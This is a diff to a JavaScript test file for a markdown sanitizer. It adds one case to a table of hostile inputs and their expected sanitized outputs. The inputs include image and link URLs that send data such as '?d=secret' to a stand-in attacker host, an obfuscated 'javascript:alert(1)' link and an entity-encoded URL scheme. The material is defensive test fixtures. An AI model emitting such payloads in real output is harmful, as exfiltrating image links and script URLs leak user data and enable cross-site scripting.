@@ -39,6 +39,7 @@ describe('links and images', () => {
     ['![photo](https://evil.example/a.png?d=secret)', 'photo'],
     ['![](//evil.example/a.png)', ''],
     ['![a][r]\n\n[r]: https://evil.example/a.png?d=1 "t"', '[a][r]\n\nr: evil.example "t"'],
+    ['[r]\n\n[r]: j![avascript:alert(1)](https://evil.example/)', '[r]\n\nr: javascript:alert(1)'],
     ['[here](https://evil.example/x?d=secret)', 'here (evil.example)'],
     ['[here](<https://evil.example/x?d=secret> "title")', 'here (evil.example)'],
     ['[here](https&colon;//evil.example/?d=secret)', 'here (evil.example)'],
